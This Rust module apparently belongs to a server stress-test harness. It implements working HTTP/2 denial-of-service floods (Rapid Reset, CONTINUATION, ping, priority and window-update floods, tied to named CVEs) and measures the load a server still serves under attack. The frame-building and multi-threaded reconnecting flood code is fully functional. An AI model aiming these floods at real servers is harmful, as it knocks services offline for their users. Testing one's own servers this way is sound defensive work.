//! Clients of HTTP/2 that send what costs them nothing and the server something: requests taken
//! back at once (CVE-2023-44487), heads without an end (CVE-2024-27316), pings that ask for an
//! answer each. Whoever is refused comes again.

use std::io::{ErrorKind, Read, Write};
use std::net::Shutdown;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use crate::Outcome;
use crate::serving::{Serving, normal_rate};

/// What is sent again and again.
#[derive(Clone, Copy, PartialEq)]
pub(crate) enum Kind {
    Resets,
    Continuations,
    Pings,
    Priorities,
    Windows,
}

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET http://a/` by the static table of HPACK.
pub(crate) const REQUEST: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
/// Frames of one write.
const FRAMES: u32 = 64;
const DATA_OF_PING: [u8; 8] = [7; 8];
const PIECE_BYTES: usize = 8 << 10;

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A literal header of some length, not indexed.
fn padding() -> Vec<u8> {
    let mut block = vec![0x00, 1, b'x', 0x7f, 0x81, 0x3d];
    block.resize(block.len() + PIECE_BYTES, b'y');
    block
}

impl Kind {
    /// The bytes of the next write, from this stream's number on.
    fn next(self, stream: &mut u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        for _ in 0..FRAMES {
            match self {
                Kind::Resets => {
                    bytes.extend(frame(1, 0x5, *stream, &REQUEST));
                    bytes.extend(frame(3, 0, *stream, &8_u32.to_be_bytes()));
                    *stream += 2;
                }
                Kind::Continuations if *stream == 1 => {
                    bytes.extend(frame(1, 0x1, *stream, &REQUEST));
                    *stream += 2;
                }
                Kind::Continuations => bytes.extend(frame(9, 0, 1, &padding())),
                Kind::Pings => bytes.extend(frame(6, 0, 0, &DATA_OF_PING)),
                Kind::Priorities => bytes.extend(frame(2, 0, 1, &[0, 0, 0, 0, 7])),
                // Each 0 would be an error.
                Kind::Windows => bytes.extend(frame(8, 0, 0, &1_u32.to_be_bytes())),
            }
        }
        bytes
    }
}

/// Prints what normal load is left, how often the server ended a connection and after how many
/// bytes, and what it has become.
pub(crate) fn flood(server: &Serving, clients: usize, time: Duration, kind: Kind) -> Outcome<()> {
    let alone = normal_rate(server, time / 3)?;
    println!("normal load alone: {alone:.0} requests/s");
    server.tell("at the start")?;
    let (stop, bytes, ended) = (AtomicBool::new(false), AtomicU64::new(0), AtomicU64::new(0));
    let attacked = std::thread::scope(|scope| {
        for _ in 0..clients {
            scope.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    let sent = one(server, kind, &stop).unwrap_or(0);
                    bytes.fetch_add(sent, Ordering::Relaxed);
                    ended.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        let attacked = normal_rate(server, time);
        let told = server.tell("under attack");
        stop.store(true, Ordering::Relaxed);
        told.and(attacked)
    })?;
    let (bytes, ended) = (bytes.into_inner(), ended.into_inner());
    println!("normal load beside: {attacked:.0} requests/s, {:.0} %", attacked / alone * 100.0);
    println!("{ended} connections ended, after {} bytes each", bytes / ended.max(1));
    std::thread::sleep(Duration::from_secs(3));
    server.tell("afterwards")
}

/// One connection until the server ends it. How many bytes it took.
fn one(server: &Serving, kind: Kind, stop: &AtomicBool) -> Outcome<u64> {
    let mut socket = server.connect()?;
    socket.set_write_timeout(Some(Duration::from_secs(2)))?;
    let mut reader = socket.try_clone()?;
    std::thread::scope(|scope| {
        // Answers are taken, unless the flood is one of pings, whose sender reads nothing.
        let reading = (kind != Kind::Pings).then(|| {
            scope.spawn(move || {
                let mut bytes = [0; 4096];
                while matches!(reader.read(&mut bytes), Ok(1..)) {}
            })
        });
        let (mut sent, mut stream) = (0, 1);
        let mut outcome = socket.write_all(&[PREFACE, &frame(4, 0, 0, &[])].concat());
        while outcome.is_ok() && !stop.load(Ordering::Relaxed) {
            let bytes = kind.next(&mut stream);
            outcome = socket.write_all(&bytes);
            sent += bytes.len() as u64;
        }
        let _ = socket.shutdown(Shutdown::Both);
        drop(reading);
        match outcome {
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(sent),
            _ => Ok(sent),
        }
    })
}
